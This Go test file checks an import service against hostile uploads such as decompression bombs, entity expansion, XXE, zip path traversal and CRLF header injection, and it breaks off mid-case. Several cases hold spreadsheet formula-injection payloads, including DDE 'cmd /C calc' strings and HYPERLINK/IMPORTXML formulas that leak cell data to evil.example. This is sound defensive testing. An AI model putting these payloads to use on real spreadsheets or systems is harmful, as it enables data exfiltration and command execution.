package app_test

// The hostile corpus: files built to hurt an importer (decompression bombs,
// entity expansion, path traversal in archives, formula injection, giant
// cells, rows, headers and row counts, invalid text, look-alike and
// invisible characters, keys MongoDB rejects, numbers no type can hold),
// sent to a whole in-process Intake one after another while a normal
// import runs beside them. For each case the test asserts the HTTP answer
// (a clear 4xx, or 202 and the exact summary with every row problem), that
// the process heap stayed under the case's bound, that no temporary file
// was left behind, and that the server still serves; at the end, that
// every normal import beside them came out exactly as it would alone.
//
// Small cases are files in testdata/hostile, written by hostileFiles below
// (INTAKE_WRITE_HOSTILE=1 go test -run TestHostileCorpusFiles ./app
// rewrites them; the test checks they match). Huge ones (a 50 MB cell, a
// million empty rows, a 4 GiB bomb) are generated while they are sent, so
// the client side of the test holds almost nothing and the heap measured
// is the server's.

import (
	"archive/zip"
	"bufio"
	"bytes"
	"compress/flate"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"image"
	"image/png"
	"io"
	"maps"
	"mime/multipart"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"go.mongodb.org/mongo-driver/v2/bson"

	"github.com/intake/intake/pkg/filereader/xlsxtest"
	"github.com/intake/intake/services/ingest"
)

const hostileDir = "../../../testdata/hostile"

// rowProblem is one problem of one failed row: its field ("" for the row)
// and a substring of its message.
type rowProblem struct {
	row   int
	field string
	msg   string
}

type hostileCase struct {
	name   string
	file   string                  // a file of testdata/hostile, sent under its own name unless send is set
	gen    func(w io.Writer) error // or a body generated while it is sent
	send   string                  // the file name sent
	fields map[string]string       // form fields before the file
	why    string                  // what the case attacks and the outcome chosen

	status int    // HTTP status of the upload
	errMsg string // a refused upload: substring of its error
	// An accepted upload: the summary and every problem of every failed row.
	total    int
	counts   [5]int // created, updated, skipped, failed, deleted
	problems []rowProblem
	check    func(t *testing.T, s *system, v ingest.ImportView)

	heapMiB uint64 // bound on the process's peak HeapInuse while the case runs (0: defaultHeapMiB)
	skip    string // a known bug outside this change's files (see the report)
}

// defaultHeapMiB bounds the heap of the whole test process (the system runs
// in it: broker, database, all five services, the import running beside
// the case) during a small case. Measured peaks are about 40-90 MiB.
const defaultHeapMiB = 256

func TestHostileCorpus(t *testing.T) {
	if testing.Short() {
		t.Skip("sends multi-megabyte hostile files")
	}
	tmp := t.TempDir()
	dataDir := t.TempDir()
	// filereader spools XLSX uploads under os.TempDir (app.Config has no
	// TempDir): every temporary file the system makes lands here.
	t.Setenv("TMPDIR", tmp)
	s := startSystem(t, dataDir, nil)

	bg := startBackgroundImports(s)
	defer bg.finish(t)

	ran := 0
	start := time.Now()
	parent := t
	for _, c := range hostileCases() {
		t.Run(c.name, func(t *testing.T) {
			if c.skip != "" && os.Getenv("INTAKE_HOSTILE_KNOWN_BUGS") == "" {
				t.Skip(c.skip + " (INTAKE_HOSTILE_KNOWN_BUGS=1 runs it)")
			}
			ran++
			if c.why != "" {
				t.Log(c.why)
			}
			s.t = t
			defer func() { s.t = parent }()
			runHostileCase(t, s, c, tmp)
		})
	}
	t.Logf("%d hostile cases in %s; %d normal imports ran beside them", ran, time.Since(start).Round(time.Millisecond), bg.runs.Load())
}

func runHostileCase(t *testing.T, s *system, c hostileCase, tmp string) {
	body, name := c.gen, c.send
	if c.file != "" {
		data, err := os.ReadFile(filepath.Join(hostileDir, c.file))
		if err != nil {
			t.Fatal(err)
		}
		body = func(w io.Writer) error { _, err := w.Write(data); return err }
		if name == "" {
			name = c.file
		}
	}
	bound := c.heapMiB
	if bound == 0 {
		bound = defaultHeapMiB
	}

	began := time.Now()
	peak := startHeapSampler()
	status, out := s.send(name, c.fields, body)
	var v ingest.ImportView
	if status == http.StatusAccepted {
		v = s.waitDone(out["id"].(string), 3*time.Minute)
	} else if id, ok := out["import_id"].(string); ok {
		// A file refused part-way still ends, failed, with its rows accounted for.
		v = s.waitDone(id, 3*time.Minute)
		if v.Status != "failed" || v.Processed != v.Total {
			t.Errorf("the import cut short ended %+v, want failed with every row accounted for", v)
		}
	}
	heap := peak.stop()
	t.Logf("%d in %s; peak HeapInuse %d MiB (bound %d MiB)", status, time.Since(began).Round(time.Millisecond), heap>>20, bound)

	if status != c.status {
		t.Fatalf("status %d %v, want %d", status, out, c.status)
	}
	if status != http.StatusAccepted {
		msg, _ := out["error"].(string)
		if msg == "" || !strings.Contains(msg, c.errMsg) {
			t.Fatalf("error %q, want one saying %q", msg, c.errMsg)
		}
	} else {
		checkHostileSummary(t, s, c, v)
	}
	if heap > bound<<20 {
		t.Errorf("peak HeapInuse %d MiB, over the case's bound of %d MiB", heap>>20, bound)
	}
	// No temporary file outlives its request.
	if left, _ := os.ReadDir(tmp); len(left) > 0 {
		var names []string
		for _, e := range left {
			names = append(names, e.Name())
		}
		t.Errorf("left in the temporary directory: %v", names)
	}
	// The server still serves.
	resp, err := http.Get(s.base + "/healthz")
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("healthz after the case: %v %v", err, resp)
	}
	resp.Body.Close()
}

func checkHostileSummary(t *testing.T, s *system, c hostileCase, v ingest.ImportView) {
	t.Helper()
	if v.Status != "completed" {
		t.Fatalf("status %s (%s), want completed", v.Status, v.Reason)
	}
	if v.Total != c.total || counts(v) != c.counts {
		t.Fatalf("total %d, created/updated/skipped/failed/deleted %v; want %d, %v (errors %+v)", v.Total, counts(v), c.total, c.counts, v.Errors)
	}
	var all struct{ Errors []ingest.RowError }
	s.getInto("/v1/imports/"+v.ID+"/errors", &all)
	if len(all.Errors) != len(c.problems) {
		t.Fatalf("%d row problems %+v, want %d %+v", len(all.Errors), all.Errors, len(c.problems), c.problems)
	}
	for i, want := range c.problems {
		got := all.Errors[i]
		if got.Row != want.row || got.Field != want.field || !strings.Contains(got.Message, want.msg) {
			t.Errorf("problem %d = row %d field %q %q; want row %d field %q saying %q", i, got.Row, got.Field, got.Message, want.row, want.field, want.msg)
		}
	}
	// Messages quote cells but never start with a spreadsheet formula
	// character and never carry raw control or bidi characters from the
	// file (they are shown escaped).
	var skipped struct{ Errors []ingest.RowError }
	s.getInto("/v1/imports/"+v.ID+"/errors?result=skipped", &skipped)
	for _, e := range append(all.Errors, skipped.Errors...) {
		if e.Message != "" && strings.ContainsRune("=+-@\t\r", rune(e.Message[0])) {
			t.Errorf("row %d: message starts like a formula: %q", e.Row, e.Message)
		}
	}
	for _, e := range all.Errors {
		if strings.ContainsAny(e.Message, "\r\n\x1b\u202e\u2066\u200b") {
			t.Errorf("row %d: message carries a raw control character: %q", e.Row, e.Message)
		}
	}
	if c.check != nil {
		c.check(t, s, v)
	}
}

// send posts a multipart upload whose file part is written by body while
// the request is sent (form fields first, in sorted order).
func (s *system) send(name string, fields map[string]string, body func(io.Writer) error) (int, map[string]any) {
	s.t.Helper()
	pr, pw := io.Pipe()
	mw := multipart.NewWriter(pw)
	go func() {
		err := func() error {
			for _, k := range slices.Sorted(maps.Keys(fields)) {
				if err := mw.WriteField(k, fields[k]); err != nil {
					return err
				}
			}
			fw, err := mw.CreateFormFile("file", name)
			if err != nil {
				return err
			}
			bw := bufio.NewWriterSize(fw, 64<<10)
			if err := body(bw); err != nil {
				return err
			}
			if err := bw.Flush(); err != nil {
				return err
			}
			return mw.Close()
		}()
		pw.CloseWithError(err)
	}()
	req, _ := http.NewRequest(http.MethodPost, s.base+"/v1/imports", pr)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		s.t.Fatalf("upload: %v", err)
	}
	defer resp.Body.Close()
	data, _ := io.ReadAll(resp.Body)
	var out map[string]any
	if err := json.Unmarshal(data, &out); err != nil {
		s.t.Fatalf("upload answered %d with non-JSON %q", resp.StatusCode, data)
	}
	return resp.StatusCode, out
}

// heapSampler records the highest HeapInuse of the process, sampled every 10 ms.
type heapSampler struct {
	peak atomic.Uint64
	quit chan struct{}
	done chan struct{}
}

func startHeapSampler() *heapSampler {
	runtime.GC()
	h := &heapSampler{quit: make(chan struct{}), done: make(chan struct{})}
	go func() {
		defer close(h.done)
		tick := time.NewTicker(10 * time.Millisecond)
		defer tick.Stop()
		var ms runtime.MemStats
		for {
			runtime.ReadMemStats(&ms)
			if ms.HeapInuse > h.peak.Load() {
				h.peak.Store(ms.HeapInuse)
			}
			select {
			case <-h.quit:
				return
			case <-tick.C:
			}
		}
	}()
	return h
}

func (h *heapSampler) stop() uint64 {
	close(h.quit)
	<-h.done
	return h.peak.Load()
}

// backgroundImports imports normal contacts files, one after another, while
// the hostile cases run, and checks each summary exactly.
type backgroundImports struct {
	runs atomic.Int64
	quit chan struct{}
	done chan error
}

func startBackgroundImports(s *system) *backgroundImports {
	b := &backgroundImports{quit: make(chan struct{}), done: make(chan error, 1)}
	base := s.base
	go func() {
		for i := 0; ; i++ {
			select {
			case <-b.quit:
				b.done <- nil
				return
			default:
			}
			if err := backgroundImport(base, i); err != nil {
				b.done <- err
				return
			}
			b.runs.Add(1)
		}
	}()
	return b
}

func (b *backgroundImports) finish(t *testing.T) {
	close(b.quit)
	select {
	case err := <-b.done:
		if err != nil {
			t.Errorf("a normal import beside the hostile ones: %v", err)
		}
	case <-time.After(3 * time.Minute):
		t.Errorf("the normal imports beside the hostile ones did not stop")
	}
	if b.runs.Load() == 0 {
		t.Errorf("no normal import finished beside the hostile ones")
	}
}

// backgroundImport imports 2,000 new contacts, every tenth with an invalid
// email, and checks the summary is exactly 1,800 created and 200 failed.
func backgroundImport(base string, run int) error {
	const n = 2000
	var b bytes.Buffer
	b.WriteString("name,email,company\n")
	for i := 0; i < n; i++ {
		email := fmt.Sprintf("bg%d-%d@background.test", run, i)
		if i%10 == 9 {
			email = fmt.Sprintf("bg%d-%d@", run, i)
		}
		fmt.Fprintf(&b, "Background %d %d,%s,Co %d\n", run, i, email, i%3)
	}
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	fw, _ := mw.CreateFormFile("file", "background.csv")
	_, _ = fw.Write(b.Bytes())
	_ = mw.Close()
	resp, err := http.Post(base+"/v1/imports", mw.FormDataContentType(), &body)
	if err != nil {
		return err
	}
	var out map[string]any
	err = json.NewDecoder(resp.Body).Decode(&out)
	resp.Body.Close()
	if err != nil || resp.StatusCode != http.StatusAccepted {
		return fmt.Errorf("upload %d: %d %v %v", run, resp.StatusCode, out, err)
	}
	id, _ := out["id"].(string)
	deadline := time.Now().Add(3 * time.Minute)
	for {
		resp, err := http.Get(base + "/v1/imports/" + id + "?wait=5s")
		if err != nil {
			return err
		}
		var v ingest.ImportView
		err = json.NewDecoder(resp.Body).Decode(&v)
		resp.Body.Close()
		if err != nil {
			return err
		}
		if v.Status != "processing" {
			if v.Status != "completed" || v.Total != n || counts(v) != [5]int{1800, 0, 0, 200, 0} {
				return fmt.Errorf("import %d (%s) = %s total %d %v, want completed 2000 [1800 0 0 200 0]", run, id, v.Status, v.Total, counts(v))
			}
			return nil
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("import %d (%s) still processing", run, id)
		}
	}
}

// record returns the stored record with the given _id.
func (s *system) record(t *testing.T, tenant, schemaName, id string) bson.M {
	t.Helper()
	var doc bson.M
	err := s.mongo.Database("intake_records").Collection("records."+tenant+"."+schemaName).FindOne(context.Background(), bson.D{{Key: "_id", Value: id}}).Decode(&doc)
	if err != nil {
		t.Fatalf("record %s: %v", id, err)
	}
	return doc
}

// wantRecord asserts a record's fields are exactly want, besides _id and
// the importer's _intake_* fields, and that those are the importer's own stamp.
func wantRecord(t *testing.T, s *system, schemaName, id string, v ingest.ImportView, want bson.M) {
	t.Helper()
	doc := s.record(t, "default", schemaName, id)
	if stamp := stampOf(doc); stamp.Import != v.ID {
		t.Errorf("record %s: stamp %+v is not the importer's", id, stamp)
	}
	doc = withoutStamp(doc)
	got, _ := json.Marshal(doc)
	exp, _ := json.Marshal(want)
	if string(got) != string(exp) {
		t.Errorf("record %s = %s, want %s", id, got, exp)
	}
}

// ---- the cases ----

func hostileCases() []hostileCase {
	simple := "name,email\nField Test,fields@hostile.test\n"
	return []hostileCase{
		// Empty and header-only files.
		{name: "empty file", file: "empty.csv", status: 400, errMsg: "the file is empty"},
		{name: "only a byte order mark", file: "bom_only.csv", status: 400, errMsg: "the file is empty"},
		{name: "header only", file: "header_only.csv", status: 202, total: 0,
			why: "a header and no rows is an import of nothing that completes at once"},
		{name: "blank header row", file: "blank_header.csv", status: 400, errMsg: "the header row (row 1) is empty"},

		// Not text, or not the text it claims.
		{name: "a PNG named .csv", file: "really_png.csv", status: 400, errMsg: "looks like a PNG image"},
		{name: "NUL bytes at the start", file: "nul_early.csv", status: 400, errMsg: "a binary file (it contains NUL bytes)"},
		{name: "a NUL byte past the sniffed start", file: "nul_late.csv", status: 202, total: 302, counts: [5]int{301, 0, 0, 1, 0},
			problems: []rowProblem{{302, "name", "control character"}},
			why:      "the binary sniff looks at 8 KiB; a NUL further on is a row problem, never stored"},
		{name: "invalid UTF-8 bytes", file: "invalid_utf8.csv", status: 202, total: 3, counts: [5]int{3, 0, 0, 0, 0},
			why: "stray bytes in UTF-8 text are read as Windows-1252, so what is stored is always valid text",
			check: func(t *testing.T, s *system, v ingest.ImportView) {
				wantRecord(t, s, "contacts", "email:utf1@hostile.test", v, bson.M{"company": "Café Crème", "email": "utf1@hostile.test", "name": "Zoë Ñúñez-Ångström"})
				wantRecord(t, s, "contacts", "email:utf2@hostile.test", v, bson.M{"company": "Straße", "email": "utf2@hostile.test", "name": "Café Bar"})
				wantRecord(t, s, "contacts", "email:utf3@hostile.test", v, bson.M{"company": "Ã(x", "email": "utf3@hostile.test", "name": "Bad ÿþ"})
			}},
		{name: "an XLSX that is really a CSV", file: "really_csv.xlsx", status: 202, total: 1, counts: [5]int{1, 0, 0, 0, 0},
			why: "the format is sniffed from the content, not the name: this is read as CSV"},
		{name: "an XLSX that is really a CSV, format=xlsx", file: "really_csv.xlsx", fields: map[string]string{"format": "xlsx"},
			status: 400, errMsg: "looks like text or an unknown format, not an XLSX workbook"},

		// CSV structure.
		{name: "unbalanced quote to the end of the file", file: "unbalanced_quote.csv", status: 202, total: 2, counts: [5]int{1, 0, 0, 1, 0},
			problems: []rowProblem{{3, "", "malformed CSV"}},
			why:      "the open quote swallows the rest of the file into one row, which fails; the rows before it import"},
		{name: "mixed delimiters", file: "mixed_delimiters.csv", status: 202, total: 4, counts: [5]int{1, 0, 0, 3, 0},
			problems: []rowProblem{{2, "", "row has 1 cells but the header has 3 columns"}, {3, "", "row has 1 cells"}, {4, "", "row has 1 cells"}}},
		{name: "a row wider than 1000 columns", file: "wide_row.csv", status: 202, total: 2, counts: [5]int{1, 0, 0, 1, 0},
			problems: []rowProblem{{2, "", "the row has 1001 cells; at most 1000 columns are allowed"}}},
		{name: "CRLF injection in cells", file: "crlf_injection.csv", status: 202, total: 4, counts: [5]int{2, 0, 0, 2, 0},
			problems: []rowProblem{
				{3, "email", `invisible character U+000A`},
				{4, "", "row has 1 cells but the header has 3 columns"},
			},
			why: "line breaks inside quoted cells are text (CRLF stored as LF); a bare CR is a line break (classic Mac), so it splits the row",
			check: func(t *testing.T, s *system, v ingest.ImportView) {
				wantRecord(t, s, "contacts", "email:crlf1@hostile.test", v, bson.M{"company": "Acme\n\nHTTP/1.1 200 OK", "email": "crlf1@hostile.test", "name": "Ann\nSet-Cookie: evil=1"})
				wantRecord(t, s, "contacts", "email:crlf3@hostile.test", v, bson.M{"email": "crlf3@hostile.test", "name": "X-Injected: 1"})
				for _, path := range []string{"/v1/imports/" + v.ID, "/v1/imports/" + v.ID + "/errors"} {
					resp, err := http.Get(s.base + path)
					if err != nil {
						t.Fatal(err)
					}
					resp.Body.Close()
					if resp.Header.Get("Set-Cookie") != "" || resp.Header.Get("X-Injected") != "" {
						t.Errorf("GET %s: a header came from a cell: %v", path, resp.Header)
					}
				}
			}},
		{name: "cells of only whitespace", file: "whitespace_cells.csv", status: 202, total: 3, counts: [5]int{2, 0, 0, 1, 0},
			problems: []rowProblem{{3, "email", "required as the reconciliation key"}, {3, "email", "at least one of email, phone is required"}},
			why:      "a cell of spaces, tabs, no-break or ideographic spaces is empty: nothing is stored for it",
			check: func(t *testing.T, s *system, v ingest.ImportView) {
				wantRecord(t, s, "contacts", "email:ws1@hostile.test", v, bson.M{"email": "ws1@hostile.test"})
				wantRecord(t, s, "contacts", "email:ws3@hostile.test", v, bson.M{"email": "ws3@hostile.test", "name": "Nbsp"})
			}},
		{name: "10,000 rows, all duplicates", gen: genDuplicates, send: "duplicates.csv", status: 202, total: 10000, counts: [5]int{1, 0, 9999, 0, 0},
			check: func(t *testing.T, s *system, v ingest.ImportView) {
				sk := s.getJSON("/v1/imports/" + v.ID + "/errors?result=skipped")
				if sk["rows"] != 9999.0 {
					t.Errorf("%v rows listed as skipped, want 9999", sk["rows"])
				}
			}},

		// Spreadsheet formulas are text: stored as written (less surrounding
		// whitespace), never evaluated; the CLI's CSV export adds the quote.
		{name: "formula payloads", file: "formulas.csv", status: 202, total: 9, counts: [5]int{8, 0, 0, 1, 0},
			problems: []rowProblem{{10, "phone", `phone: '=HYPERLINK("http://evil.example","x")' is not a valid phone number`}},
			check: func(t *testing.T, s *system, v ingest.ImportView) {
				for id, name := range map[string]string{
					"f1": `=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
					"f2": `+cmd|' /C calc'!A0`,
					"f3": `@SUM(1+1)*cmd|' /C calc'!A0`,
					"f4": `-2+3+cmd|' /C calc'!A0`,
					"f5": `=1+1`,
					"f6": `=2+2`,
				} {
					wantRecord(t, s, "contacts", "email:"+id+"@hostile.test", v, bson.M{"email": id + "@hostile.test", "name": name})
				}
				wantRecord(t, s, "contacts", "email:f7@hostile.test", v, bson.M{"company": `=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")`, "email": "f7@hostile.test", "name": `=DDE("cmd";"/C calc";"!A0")`})
				wantRecord(t, s, "contacts", "email:=cmd@hostile.test", v, bson.M{"email": "=cmd@hostile.test", "name": "Formula Email"})
			}},

		// Look-alike and invisible characters.
		{name: "homoglyph emails", file: "homoglyph_emails.csv", status: 202, total: 7, counts: [5]int{4, 0, 1, 2, 0},
			problems: []rowProblem{{7, "email", "invisible character U+200B"}, {8, "email", "invisible character U+200D"}},
			why: "a look-alike from another script is a different (valid, internationalised) address, as for mail servers; " +
				"an invisible character would make a different key that looks the same, so it is refused",
			check: func(t *testing.T, s *system, v ingest.ImportView) {
				for _, e := range []string{"ann@homoglyph.test", "\u0430nn@homoglyph.test", "ann@h\u043emoglyph.test", "\uff41\uff4e\uff4e@homoglyph.test"} {
					s.record(t, "default", "contacts", "email:"+e)
				}
			}},
		{name: "RTL override characters", file: "rtl_override.csv", status: 202, total: 3, counts: [5]int{1, 0, 0, 2, 0},
			problems: []rowProblem{{3, "email", `'rtl\u202e2@hostile.test' is not a valid email address: it contains the invisible character U+202E`}, {4, "email", "invisible character U+2066"}},
			why:      "bidi controls are text in a name (stored as written; displays must isolate them) and refused in an email",
			check: func(t *testing.T, s *system, v ingest.ImportView) {
				wantRecord(t, s, "contacts", "email:rtl1@hostile.test", v, bson.M{"company": "\u2067Acme\u2069", "email": "rtl1@hostile.test", "name": "\u202eevil.exe\u202c Ann"})
			}},

		// Names MongoDB or FerretDB reject, as headers and as JSON keys.
		{name: "headers MongoDB rejects as field names", file: "mongo_headers.csv", status: 202, total: 1, counts: [5]int{1, 0, 0, 0, 0},
			why: "field names come from the schema, never from the header: unknown headers ($where, a.b, empty, _id, _intake) are ignored",
			check: func(t *testing.T, s *system, v ingest.ImportView) {
				wantRecord(t, s, "contacts", "email:mh1@hostile.test", v, bson.M{"email": "mh1@hostile.test", "name": "Mongo Header"})
			}},
		{name: "JSON attribute keys MongoDB rejects", file: "persons_json_keys.csv", fields: map[string]string{"schema": "persons"},
			status: 202, total: 8, counts: [5]int{2, 0, 0, 6, 0},
			problems: []rowProblem{
				{2, "attributes", "key '$where' is not allowed"},
				{3, "attributes", "key 'a.b' is not allowed"},
				{4, "attributes", "key '' is not allowed"},
				{5, "attributes", "key '$gt' is not allowed"},
				{7, "attributes", `key 'b\x00c' is not allowed`},
				{9, "attributes", "key '$x' is not allowed"},
			},
			check: func(t *testing.T, s *system, v ingest.ImportView) {
				doc := s.record(t, "default", "persons", "emails:pj5@hostile.test")
				attrs := asM(doc["attributes"])
				if asM(attrs["_id"])["v"] != "x" || len(attrs) != 3 {
					t.Errorf("attributes stored as %v", doc["attributes"])
				}
				if attrs := asM(s.record(t, "default", "persons", "emails:pj7@hostile.test")["attributes"]); fmt.Sprint(asM(attrs["k"])["v"]) != "2" {
					t.Errorf("a repeated key: %v, want the last value", attrs)
				}
			}},
		{name: "JSON nested 10,000 deep", file: "json_deep.csv", fields: map[string]string{"schema": "persons"},
			status: 202, total: 3, counts: [5]int{0, 0, 0, 3, 0},
			problems: []rowProblem{
				{2, "attributes", "nested deeper than 32 levels"},
				{3, "attributes", "nested deeper than 32 levels"},
				{4, "attributes", "nested deeper than 32 levels"},
			}},

		// Numbers no field can hold. No shipped schema has an int or decimal
		// field (pkg/schema tests those types); text fields keep the digits
		// as written, phone and JSON fields refuse what they cannot hold.
		{name: "enormous numbers, customers", file: "huge_numbers_customers.csv", fields: map[string]string{"schema": "customers"},
			status: 202, total: 8, counts: [5]int{2, 0, 0, 6, 0},
			problems: []rowProblem{
				{2, "phone", "'99999999999999999999999' is not a valid phone number"},
				{3, "phone", "'1e999' is not a valid phone number"},
				{6, "phone", "is not a valid phone number"},
				{7, "phone", "'NaN' is not a valid phone number"},
				{8, "phone", "'-Infinity' is not a valid phone number"},
				{9, "phone", "'0x7FFFFFFFFFFFFFFF' is not a valid phone number"},
			},
			check: func(t *testing.T, s *system, v ingest.ImportView) {
				wantRecord(t, s, "customers", "email:hn3@hostile.test", v, bson.M{"email": "hn3@hostile.test", "external_id": "99999999999999999999999", "name": "Cid"})
				wantRecord(t, s, "customers", "email:hn4@hostile.test", v, bson.M{"email": "hn4@hostile.test", "external_id": "1e999", "name": "Dee", "notes": "-1e400"})
			}},
		{name: "enormous numbers, persons", file: "huge_numbers_persons.csv", fields: map[string]string{"schema": "persons"},
			status: 202, total: 6, counts: [5]int{1, 0, 0, 5, 0},
			problems: []rowProblem{
				{2, "attributes", "number 1e999 is too large"},
				{3, "attributes", `number 99999999999999999999999 cannot be stored exactly; write it as a string`},
				{4, "attributes", "number -1e400 is too large"},
				{6, "phone_numbers", "'99999999999999999999999' is not a valid phone number"},
				{7, "attributes", "number 9007199254740993 cannot be stored exactly"},
			},
			check: func(t *testing.T, s *system, v ingest.ImportView) {
				// 1e-400 is below the smallest float64 and rounds to 0, as JSON numbers do.
				if n := asM(asM(s.record(t, "default", "persons", "emails:hp4@hostile.test")["attributes"])["n"]); fmt.Sprint(n["v"]) != "0" {
					t.Errorf("1e-400 stored as %#v", n["v"])
				}
			}},

		// Huge: generated while sent.
		{name: "a 50 MB cell", gen: filled("name,email\nBefore,c50-1@hostile.test\n", "A", 50<<20, ",c50-2@hostile.test\nAfter,c50-3@hostile.test\n"), send: "cell_50mb.csv", status: 202, total: 3, counts: [5]int{2, 0, 0, 1, 0},
			problems: []rowProblem{{3, "", "a cell is longer than 1048576 bytes"}},
			why:      "the cell is cut as it streams (filereader's record guard): the row fails, memory stays at about the row limit",
			heapMiB:  256},
		{name: "100,000 columns", gen: filled("email", ",c", 99999, "\nwide@hostile.test\n"), send: "columns_100k.csv", status: 400,
			errMsg: "the header has 100000 columns; at most 1000 are allowed"},
		{name: "a 10 MB header line", gen: filled("email,name,", "h", 10<<20, "\nh10@hostile.test,Ten,x\n"), send: "header_10mb.csv", status: 400,
			errMsg: "the header row is longer than 64 KiB",
			why:    "the header travels in every chunk of rows: a 10 MB one made every chunk too large for the broker (503)"},
		{name: "1,000,000 empty lines", gen: filled("name,email\n", "\n", 1_000_000, "Last,el1@hostile.test\n"), send: "empty_lines_1m.csv", status: 202, total: 1, counts: [5]int{1, 0, 0, 0, 0},
			why: "blank lines are skipped but keep their numbers: the one row is row 1,000,002",
			check: func(t *testing.T, s *system, v ingest.ImportView) {
				if row := stampOf(s.record(t, "default", "contacts", "email:el1@hostile.test")).Row; row != 1000002 {
					t.Errorf("the row after a million blank lines is row %v, want 1000002", row)
				}
			}},
		{name: "1,000,000 rows of empty cells", gen: filled("name,email,phone,company\n", ",,,\n", 1_000_000, "Last,ec1@hostile.test,,\n"), send: "empty_cells_1m.csv", status: 202, total: 1, counts: [5]int{1, 0, 0, 0, 0},
			check: func(t *testing.T, s *system, v ingest.ImportView) {
				if row := stampOf(s.record(t, "default", "contacts", "email:ec1@hostile.test")).Row; row != 1000002 {
					t.Errorf("the row after a million empty rows is row %v, want 1000002", row)
				}
			}},
		{name: "rows near the cell limit", gen: genRowsNearCellLimit, send: "near_limit.csv", status: 202, total: 12, counts: [5]int{12, 0, 0, 0, 0},
			why: "12 rows of 1,000,000-byte cells (each within the limits) would make a 12 MB chunk, over the broker's 8 MiB message limit; ingest cuts chunks by size too"},

		// XLSX: bombs, entities, traversal, damage.
		{name: "XLSX decompression bomb (4 GiB)", gen: genBomb(4<<30, 0), send: "bomb.xlsx", status: 413,
			errMsg: "the workbook unpacks to more than 1 GiB, the limit"},
		{name: "XLSX bomb that lies about its size", gen: genBomb(4<<30, 1<<20), send: "bomb_lying.xlsx", status: 413,
			errMsg: "unpacks to more than the 1048576 bytes it declares (a damaged file or a decompression bomb)"},
		{name: "XLSX with 3.9 million shared strings", gen: genSharedStringsBomb, send: "shared_strings_3.9m.xlsx", status: 413,
			errMsg: "the shared-strings table of the workbook has more than 1000000 entries, the limit",
			why: "162 KB whose shared-strings table (66 MB of <si><t>a</t></si>, within the unzip limits) excelize decoded whole on opening: " +
				"the heap went from 58 MB to 1.45 GB; filereader now counts the entries while streaming the part, before excelize opens it",
			heapMiB: 128},
		{name: "a persons row of 100,000 usernames", gen: genManyUsernames, send: "usernames_100k.csv", fields: map[string]string{"schema": "persons"},
			status: 202, total: 3, counts: [5]int{1, 0, 0, 2, 0},
			problems: []rowProblem{{2, "usernames", "a cell may hold at most 65536"}, {3, "usernames", "has 101 items, at most 100 allowed"}},
			why: "one 800 KB row took 46 s of validator CPU (every item compared with every other) and stalled every tenant's imports; " +
				"cells are bounded to 64 KiB and lists to max_items (100 by default), checked before any item is parsed"},
		{name: "XLSX with 10,001 parts", gen: genManyParts, send: "many_parts.xlsx", status: 413,
			errMsg: "the workbook has 10005 parts; at most 10000 are allowed"},
		{name: "billion laughs in sharedStrings", file: "billion_laughs_sst.xlsx", status: 400, errMsg: "XML syntax error on line 1: invalid character entity &lol9;",
			why: "Go's encoding/xml never expands entities a document declares: the reference is an error, and excelize reports it for shared strings"},
		{name: "billion laughs in the sheet", file: "billion_laughs_sheet.xlsx", status: 400,
			errMsg: `the workbook part "xl/worksheets/sheet1.xml" is not well-formed XML (line 2: invalid character entity &lol9;)`,
			why: "in a sheet excelize drops the decoder's error and the sheet silently ended at the reference (the import completed with 0 rows); " +
				"filereader's sheet check now fails the reading, and the import ends failed with the reason"},
		{name: "XML external entity", file: "xxe.xlsx", status: 400, errMsg: "invalid character entity &xxe;",
			why: "external entities are never resolved (no file is read); the reference fails the sheet as above"},
		{name: "ZIP with path traversal names", file: "zip_traversal.xlsx", status: 202, total: 1, counts: [5]int{1, 0, 0, 0, 0},
			why: "parts are read into memory by name, never written by name: ../../etc/passwd is an ignored part",
			check: func(t *testing.T, s *system, v ingest.ImportView) {
				wantRecord(t, s, "contacts", "email:zt1@hostile.test", v, bson.M{"email": "zt1@hostile.test", "name": "Zip Traversal"})
				for _, p := range []string{"/tmp/hostile-abs.txt", filepath.Join(os.TempDir(), "..", "hostile-escape.xml"), filepath.Join(os.TempDir(), "..", "..", "hostile-escape.xml")} {
					if _, err := os.Stat(p); err == nil {
						t.Errorf("%s was written", p)
					}
				}
			}},
		{name: "ZIP of traversal names and no workbook", file: "zip_not_workbook.xlsx", status: 400, errMsg: "looks like a ZIP archive"},
		{name: "truncated XLSX", file: "truncated.xlsx", status: 400, errMsg: "damaged or truncated"},
		{name: "XLSX formulas", file: "xlsx_formulas.xlsx", status: 202, total: 2, counts: [5]int{2, 0, 0, 0, 0},
			why: "a formula cell reads as its cached value and is never evaluated; formula text in a string cell is stored as text",
			check: func(t *testing.T, s *system, v ingest.ImportView) {
				wantRecord(t, s, "contacts", "email:xf1@hostile.test", v, bson.M{"company": `=cmd|' /C calc'!A0`, "email": "xf1@hostile.test", "name": "click"})
				wantRecord(t, s, "contacts", "email:xf2@hostile.test", v, bson.M{"company": "@SUM(1+1)", "email": "xf2@hostile.test"})
			}},
		{name: "XLSX header out to column XFD", file: "xlsx_wide_header.xlsx", status: 400,
			errMsg: "the header has 16384 columns; at most 1000 are allowed"},
		{name: "XLSX with a 50 MB cell", gen: genXLSXLongCell, send: "cell_50mb.xlsx", status: 202, total: 3, counts: [5]int{2, 0, 0, 1, 0},
			problems: []rowProblem{{3, "", "a cell is longer than 1048576 bytes"}},
			why:      "the sheet part (under 64 MiB) is held in memory by excelize, and the row's string with it",
			heapMiB:  512},
		{name: "XLSX with 1,000,000 empty rows", gen: genXLSXEmptyRows, send: "empty_rows_1m.xlsx", status: 202, total: 1, counts: [5]int{1, 0, 0, 0, 0},
			check: func(t *testing.T, s *system, v ingest.ImportView) {
				if row := stampOf(s.record(t, "default", "contacts", "email:xe1@hostile.test")).Row; row != 1000002 {
					t.Errorf("the row after a million empty sheet rows is row %v, want 1000002", row)
				}
			}},

		// Hostile form fields and file names.
		{name: "a path as the file name", file: "header_only.csv", send: "../../../etc/passwd", status: 202, total: 0,
			why: "the file name is only shown (multipart keeps its last element): nothing is written by it",
